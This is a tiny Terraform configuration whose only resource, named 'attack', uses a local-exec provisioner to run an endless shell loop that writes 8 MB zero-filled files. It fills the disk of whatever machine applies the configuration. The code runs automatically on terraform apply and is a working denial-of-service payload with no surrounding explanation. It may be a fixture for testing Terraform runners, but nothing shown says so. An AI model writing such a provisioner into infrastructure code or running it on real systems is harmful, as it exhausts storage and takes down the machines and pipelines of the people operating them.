resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      i=0; while :; do i=$((i+1)); head -c 8000000 /dev/zero > file$i; done
    EOT
  }
}
